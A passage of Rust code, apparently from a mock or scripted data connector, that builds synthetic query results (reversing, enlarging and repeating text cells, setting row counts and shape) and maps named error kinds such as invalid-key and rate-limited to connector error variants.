                        wit::Cell::Text(t) => wit::Cell::Text(t.chars().rev().collect()),
                        other => other,
                    })
                    .collect()
            })
            .collect()
    } else {
        rows
    };
    // Text far larger than a query can carry: every text cell `grow` times over, the rows `repeat`
    // times over.
    let grow = u32_field(arg, "grow")?.unwrap_or(1) as usize;
    let repeat = u32_field(arg, "repeat")?.unwrap_or(1) as usize;
    let rows: Vec<Vec<wit::Cell>> = rows
        .into_iter()
        .map(|row| {
            row.into_iter()
                .map(|c| match c {
                    wit::Cell::Text(t) => wit::Cell::Text(t.repeat(grow)),
                    other => other,
                })
                .collect::<Vec<_>>()
        })
        .collect::<Vec<_>>();
    let rows: Vec<Vec<wit::Cell>> = (0..repeat).flat_map(|_| rows.iter().cloned()).collect();
    let shape = arg.get("shape").unwrap_or(&Value::Null);
    let shape = wit::Shape {
        table: str_field(shape, "table")?.map_or_else(|| table.clone(), named),
        columns: match shape.get("columns") {
            Some(c) => self::columns(Some(c))?,
            None => columns.clone(),
        },
        row_count: match shape.get("row_count") {
            None | Some(Value::Null) => rows.len() as u64,
            Some(n) => n
                .as_u64()
                .ok_or_else(|| script_error(format!("row_count must be a u64, got {n}")))?,
        },
        filter_keys: match shape.get("filter_keys") {
            None | Some(Value::Null) => Vec::new(),
            Some(keys) => string_list(keys, "filter_keys")?
                .into_iter()
                .map(named)
                .collect(),
        },
        aggregate: None,
    };
    Ok(wit::QueryResult {
        table,
        columns,
        rows,
        truncated: bool_field(arg, "truncated", false)?,
        cache_ttl_seconds: u32_field(arg, "cache_ttl_seconds")?.unwrap_or(0),
        shape,
        requests: u32_field(arg, "requests")?.unwrap_or(0),
        scan_note: str_field(arg, "scan_note")?,
        aggregate: None,
    })
}

fn connector_error(arg: &Value) -> Result<wit::ConnectorError, wit::ConnectorError> {
    let kind = str_field(arg, "kind")?.ok_or_else(|| script_error("error needs a kind"))?;
    let message = str_field(arg, "message")?.unwrap_or_default();
    let resources = || match arg.get("resources") {
        None | Some(Value::Null) => Ok(vec![message.clone()]),
        Some(list) => string_list(list, "resources"),
    };
    let upstream = || -> Result<wit::UpstreamError, wit::ConnectorError> {
        Ok(wit::UpstreamError {
            status: match arg.get("status") {
                None | Some(Value::Null) => None,
                Some(s) => Some(
                    s.as_u64()
                        .and_then(|s| u16::try_from(s).ok())
                        .ok_or_else(|| script_error(format!("status must be a u16, got {s}")))?,
                ),
            },
            code: str_field(arg, "code")?,
            message: message.clone(),
            request_id: str_field(arg, "request_id")?,
        })
    };
    Ok(match kind.as_str() {
        "secret-key-rejected" => wit::ConnectorError::SecretKeyRejected(message),
        "invalid-key" => wit::ConnectorError::InvalidKey(message),
        "mode-mismatch" => wit::ConnectorError::ModeMismatch(message),
        "invalid-query" => wit::ConnectorError::InvalidQuery(message),
        "network" => wit::ConnectorError::Network(message),
        "over-permissioned" => wit::ConnectorError::OverPermissioned(resources()?),
        "missing-permission" => wit::ConnectorError::MissingPermission(resources()?),
        "upstream" => wit::ConnectorError::Upstream(upstream()?),
        "rate-limited" => wit::ConnectorError::RateLimited(upstream()?),
        other => return Err(script_error(format!("unknown error kind {other:?}"))),
    })
}
